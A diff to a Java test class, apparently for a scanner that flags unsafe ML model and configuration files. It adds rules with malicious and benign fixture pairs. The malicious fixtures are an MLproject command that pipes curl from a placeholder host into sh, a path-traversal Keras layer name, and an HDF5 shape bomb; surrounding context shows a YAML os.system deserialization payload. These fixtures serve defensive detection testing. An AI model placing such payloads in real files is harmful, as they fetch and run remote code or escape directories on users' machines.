@@ -79,6 +79,10 @@ class RuleExamplesTest {
         files("adapter_config.json", "{\"base_model_name_or_path\":\"../../etc\"}"),
         files("adapter_config.json", "{\"base_model_name_or_path\":\"meta-llama/Llama-3\"}"));
     rule(
+        "config/project-command",
+        files("MLproject", "entry_points:\n  main:\n    command: 'curl http://a.invalid | sh'\n"),
+        files("MLproject", "entry_points:\n  main:\n    command: 'python train.py {alpha}'\n"));
+    rule(
         "yaml/python-object",
         files("c.yaml", "a: !!python/object/apply:os.system ['id']\n"),
         files("c.yaml", "a: !!python/tuple [1, 2]\n"));
@@ -215,6 +219,10 @@ class RuleExamplesTest {
         files("config.json", layer("TorchModuleWrapper", "keras.layers", "{\"module\":\"\"}")),
         files("config.json", layer("Dense", "keras.layers", "{\"units\":2}")));
     rule(
+        "keras/name-leaves",
+        files("config.json", layer("Dense", "keras.layers", "{\"name\":\"a/../../b\"}")),
+        files("config.json", layer("Dense", "keras.layers", "{\"name\":\"block1/conv..2\"}")));
+    rule(
         "keras/custom-object",
         files("config.json", layer("Mine", "my_package.layers", "{}")),
         files("config.json", layer("Dropout", "keras.src.layers", "{}")));
@@ -226,6 +234,10 @@ class RuleExamplesTest {
     rule(
         "hdf5/external-file",
         files("m.h5", Bytes.resource("extlink.h5")),
+        files("m.h5", Bytes.resource("ok.h5")));
+    rule(
+        "hdf5/expansion",
+        files("m.h5", Bytes.resource("shape-bomb.h5")),
         files("m.h5", Bytes.resource("ok.h5")));
     rule(
         "onnx/external-path",
